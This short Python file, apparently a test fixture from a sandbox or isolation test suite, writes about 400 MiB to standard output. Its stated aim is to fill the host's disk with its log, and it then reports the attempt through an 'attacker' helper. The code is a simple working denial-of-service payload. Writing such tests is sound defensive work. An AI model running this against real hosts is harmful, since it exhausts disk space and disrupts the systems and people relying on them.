"""Print without end, to fill the host's disk with its log."""

import os

from attacker import tried

for _ in range(400):
    os.write(1, b"x" * (1 << 20))
os.write(1, b"\n")
tried()
